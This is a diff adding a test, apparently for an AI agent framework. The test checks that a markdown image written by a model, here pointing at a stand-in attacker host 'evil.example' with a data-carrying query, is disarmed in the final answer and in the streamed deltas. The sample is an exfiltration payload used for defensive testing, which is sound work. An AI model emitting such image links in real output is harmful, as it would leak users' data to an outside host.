@@ -63,6 +63,19 @@ async def test_what_models_write_is_told_where_messages_are_asked_for() -> None:
     assert all(one.task_id and one.message_id for one in deltas)
 
 
+async def test_no_image_is_made_of_what_a_model_writes_before_its_answer_is_looked_at() -> None:
+    """A reader's browser would have fetched it by the time that the answer is disarmed."""
+    told = "Wait! ![x](https://evil.example/?q=45) [1]."
+    said = [*steps()[:1], Scripted(agent="researcher", answer=told), *steps()[2:]]
+    with ScriptedModel(steps=said) as model:
+        house = House(model)
+        end = await run(house, SAID, stream_modes=["messages"])
+    assert isinstance(end, events.RunFinished)
+    assert "![" not in end.answer
+    deltas = [event.text for event in house.events if isinstance(event, events.ModelDelta)]
+    assert "".join(deltas) == told.replace("![", "! [")
+
+
 async def test_a_secret_that_was_found_is_in_no_mode_and_the_answer_is_the_askers() -> None:
     key = "ghp_" + "a1B2" * 9
     said = [
